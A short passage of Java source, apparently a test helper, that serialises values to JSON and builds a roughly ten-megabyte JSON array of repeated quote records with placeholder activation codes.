            return SharedStack.JSON.writeValueAsBytes(value);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    static byte[] tenMegabytes() {
        StringBuilder b = new StringBuilder(10 * 1024 * 1024 + 100).append('[');
        String record = "{\"quoteNumber\":\"1\",\"proxyNumber\":\"1\",\"activationCode\":\"AAAAAAAAAAAAAAAA\"},";
        while (b.length() < 10 * 1024 * 1024) {
            b.append(record);
        }
        b.setLength(b.length() - 1);
        return b.append(']').toString().getBytes(StandardCharsets.US_ASCII);
    }
}
